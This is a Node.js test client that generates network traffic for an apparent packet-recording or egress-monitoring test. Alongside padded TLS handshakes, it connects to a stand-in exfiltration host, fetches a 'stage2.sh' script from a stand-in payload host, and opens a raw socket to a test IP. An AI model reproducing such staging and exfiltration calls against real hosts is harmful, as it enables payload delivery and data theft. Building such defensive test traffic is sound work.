// The client side of record.sh: resolves names through the system resolver and opens
// TLS and HTTP connections to the sink (all inside the test namespaces).
const dns = require("node:dns");
const tls = require("node:tls");
const http = require("node:http");
const net = require("node:net");

const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

function tlsHello(host, servername) {
  return new Promise((resolve) => {
    const socket = tls.connect({
      host,
      port: 443,
      servername,
      // Many ALPN names make the ClientHello longer than the link's MTU: it is split
      // across TCP segments.
      ALPNProtocols: Array.from({ length: 90 }, (_, i) => `proto-${i}-padding`),
      rejectUnauthorized: false,
    });
    socket.on("error", () => resolve());
    socket.on("close", () => resolve());
    setTimeout(() => { socket.destroy(); resolve(); }, 1500);
  });
}

async function main() {
  await dns.promises.lookup("registry.npmjs.org");
  await tlsHello("registry.npmjs.org", "registry.npmjs.org");
  await tlsHello("cdn.exfil.example", "cdn.exfil.example");
  await new Promise((resolve) => {
    http.get("http://payload.example/stage2.sh", (res) => { res.resume(); res.on("end", resolve); })
      .on("error", resolve);
  });
  await new Promise((resolve) => {
    const socket = net.connect({ host: "198.51.100.250", port: 8443 }, () => { socket.end("x"); });
    socket.on("error", resolve);
    socket.on("close", resolve);
  });
  await dns.promises.resolve6("v6only.example").catch(() => {});
  await pause(200);
}

main();
